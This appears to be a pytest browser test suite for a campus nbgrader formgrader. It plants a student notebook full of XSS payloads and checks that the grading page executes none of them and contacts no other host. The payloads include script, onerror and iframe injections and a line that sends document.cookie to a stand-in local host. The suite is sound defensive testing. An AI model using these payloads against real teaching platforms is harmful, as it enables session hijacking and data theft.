"""What a teacher sees in nbgrader's formgrader, in a real browser, of a learner who means harm."""

import contextlib
import json
import os
import socket
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.error import URLError
from urllib.request import urlopen

import pytest
from chromium import strangers
from playwright.sync_api import Browser, Page
from senolab.cli.formgrader import server_configuration
from senolab.grading import grade

SUBMISSIONS = Path(__file__).parent / "corpus" / "submissions"
TAKE = "window.taken=(window.taken||[]).concat('%s')"
RUNS = [
    "<script>TAKE</script>",
    '<img src="x" onerror="TAKE">',
    '<svg onload="TAKE"><script>TAKE</script></svg>',
    '<iframe srcdoc="<script>parent.TAKE</script>"></iframe>',
    "<details open ontoggle='TAKE'><summary>x</summary></details>",
    "<style>body { display: none }</style>",
    "</div></div><script>TAKE</script>",
    "~~~html\n</code></pre><script>TAKE</script>\n~~~",
    "`</code><script>TAKE</script>`",
    "$</span><script>TAKE</script>$",
]
ASKS = [
    "![picture](OTHER/picture.png)",
    '<img src="OTHER/img.png">',
    '<link rel="stylesheet" href="OTHER/style.css">',
    "<script src='OTHER/code.js'></script>",
    "<script>fetch('OTHER/told?' + document.cookie)</script>",
    "<script>new Image().src = 'OTHER/beacon.png'</script>",
    "<iframe src='OTHER/frame'></iframe>",
]


def free_port() -> int:
    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        return one.getsockname()[1]


@pytest.fixture
def formgrader(course_dir: Path, tmp_path: Path) -> Iterator[str]:
    """Formgrader with the settings it has on a campus, without the hub before it."""
    settings = tmp_path / "settings"
    settings.mkdir()
    configuration = server_configuration(course_dir)
    (settings / "jupyter_server_config.json").write_text(json.dumps(configuration))
    port = free_port()
    words = ["-m", "jupyter_server", f"--port={port}", "--ip=127.0.0.1", "--IdentityProvider.token="]
    env = os.environ | {"JUPYTER_CONFIG_DIR": str(settings), "JUPYTER_CONFIG_PATH": str(settings)}
    env |= {"SENOLAB_STATE": str(tmp_path), "SENOLAB_CAMPUS": "http://campus.localhost:8000/services/campus/"}
    log = (tmp_path / "server.log").open("wb")
    server = subprocess.Popen([sys.executable, *words], cwd=course_dir, env=env, stdout=log, stderr=log)
    address = f"http://127.0.0.1:{port}"
    try:
        until = time.monotonic() + 120
        while not answers(f"{address}/formgrader/manage_assignments"):
            assert time.monotonic() < until and server.poll() is None, (tmp_path / "server.log").read_text()
            time.sleep(0.2)
        yield address
    finally:
        server.terminate()
        server.wait(30)


def answers(address: str) -> bool:
    with contextlib.suppress(URLError, OSError):
        return urlopen(address, timeout=20).status == 200
    return False


@pytest.fixture
def other() -> Iterator[socket.socket]:
    """Another host, as far as a page can tell."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        yield listener


def armed(snippets: list[str], other: socket.socket) -> list[str]:
    host = f"http://127.0.0.1:{other.getsockname()[1]}"
    return [
        text.replace("TAKE", TAKE % number).replace("OTHER", host) for number, text in enumerate(snippets)
    ]


def hostile_notebook(snippets: list[str]) -> dict:
    """The correct submission, and harm wherever a learner can write."""
    notebook = json.loads((SUBMISSIONS / "correct" / "p1.ipynb").read_text("utf-8"))
    shows = "from IPython.display import HTML, display\n" + "".join(
        f"display(HTML({text!r}))\nprint({text!r})\n" for text in snippets
    )
    for cell in notebook["cells"]:
        answer = cell["metadata"].get("nbgrader", {})
        if answer.get("solution") and cell["cell_type"] == "code":
            cell["source"] = f"{shows}{''.join(cell['source'])}"
        elif answer.get("solution"):
            cell["source"] = "\n\n".join(snippets)
            cell["attachments"] = {f'"><script>{TAKE % "name"}</script>': {"image/svg+xml": "PHN2Zy8+"}}
    for text in snippets:
        notebook["cells"].append(
            {"cell_type": "markdown", "id": f"m{len(notebook['cells'])}", "metadata": {}, "source": text}
        )
    script = f"</script><script>{TAKE % 'metadata'}</script>"
    state = {"application/vnd.jupyter.widget-state+json": {"state": {script: {}}}}
    notebook["metadata"] |= {"widgets": state, "title": script, "language_info": {"name": script}}
    return notebook


def opened(browser: Browser, formgrader: str, course_dir: Path) -> tuple[Page, list[str]]:
    """The page of the one submission, and what it asked for."""
    with sqlite3.connect(course_dir / "gradebook.db") as database:
        (number,) = database.execute("SELECT id FROM submitted_notebook").fetchone()
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{formgrader}/formgrader/submissions/{number}/", wait_until="networkidle")
    strangers[:] = [url for url in strangers if url not in FORMULAS]
    return page, asked


def callers(other: socket.socket) -> list[str]:
    """What was asked of the other host."""
    said = []
    with contextlib.suppress(BlockingIOError):
        while True:
            caller = other.accept()[0]
            caller.settimeout(5)
            with caller, contextlib.suppress(TimeoutError):
                said.append(caller.recv(4096).decode(errors="replace"))
    return [text for text in said if text]  # a browser may open a line ahead of time and say nothing


def test_nothing_that_a_learner_wrote_runs_or_asks_another_host(
    course_dir: Path, formgrader: str, browser: Browser, other: socket.socket
) -> None:
    snippets = armed(RUNS + ASKS, other)
    folder = course_dir / "submitted" / "mal" / "p1"
    folder.mkdir(parents=True)
    (folder / "p1.ipynb").write_text(json.dumps(hostile_notebook(snippets)), "utf-8")
    (folder / "page.html").write_text(f"<script>{TAKE % 'file'}</script>", "utf-8")
    marked = grade(course_dir, "p1", "mal")
    assert marked.auto_score == 9, marked.words
    page, asked = opened(browser, formgrader, course_dir)
    assert page.locator("#notebook").first.inner_text().count("onerror=") >= 3  # shown, as words
    assert page.evaluate("window.taken") is None
    assert page.locator("body").is_visible()
    assert page.locator("#notebook").first.locator("script, iframe, svg, style, link, object").count() == 0
    assert {url for url in asked if not url.startswith((formgrader, "data:"))} <= FORMULAS
    assert callers(other) == []
    place = page.url
    assert page.request.get(f"{place}page.html").status == 404  # a learner's file is no page of formgrader's


# nbconvert names its formula program by this address and cannot be told otherwise; the policy keeps it away.
FORMULAS = {"https://cdnjs.cloudflare.com/ajax/libs/mathjax/2.7.7/latest.js?config=TeX-AMS_CHTML-full,Safe"}


def test_a_page_of_another_programs_making_reaches_no_other_host_either(
    course_dir: Path, formgrader: str, browser: Browser, other: socket.socket
) -> None:
    folder = course_dir / "submitted" / "mal" / "p1"
    folder.mkdir(parents=True)
    (folder / "p1.ipynb").write_text((SUBMISSIONS / "correct" / "p1.ipynb").read_text("utf-8"), "utf-8")
    grade(course_dir, "p1", "mal")
    raw = course_dir / "autograded" / "mal" / "p1" / "p1.ipynb"
    snippets = armed([RUNS[0], *ASKS], other)
    paper = json.loads(raw.read_text("utf-8"))
    paper["cells"] += hostile_notebook(snippets)["cells"][-len(snippets) :]
    raw.write_text(json.dumps(paper), "utf-8")
    page, _ = opened(browser, formgrader, course_dir)
    assert page.evaluate("window.taken") == ["0"]  # this page was not cleaned: the policy alone holds it
    assert callers(other) == []


def test_its_list_tells_what_the_campus_released_and_leads_to_the_campus(
    course_dir: Path, formgrader: str, browser: Browser, tmp_path: Path
) -> None:
    page = browser.new_page()
    row = page.locator("#main-table tr").filter(has_text="p1")
    campus = f"http://campus.localhost:8000/services/campus/teach/{course_dir.name}"
    for released, told in ((False, "draft"), (True, "released")):
        if released:
            (tmp_path / "releases" / course_dir.name / "p1" / "current").mkdir(parents=True)
        page.goto(f"{formgrader}/formgrader/manage_assignments", wait_until="networkidle")
        assert row.locator(".status").inner_text() == told
        assert row.locator(".name a").get_attribute("href") == f"{campus}#lesson-p1"
        assert not row.locator(".release a, .collect a").count()  # the campus does both
    folder = course_dir / "submitted" / "mal" / "p1"
    folder.mkdir(parents=True)
    (folder / "p1.ipynb").write_text((SUBMISSIONS / "correct" / "p1.ipynb").read_text("utf-8"), "utf-8")
    grade(course_dir, "p1", "mal")
    page, _ = opened(browser, formgrader, course_dir)
    leading = page.locator(f'a[href="{campus}/p1/of/mal"]')
    assert leading.count() == 2  # her number, and her name for whoever wants to see it
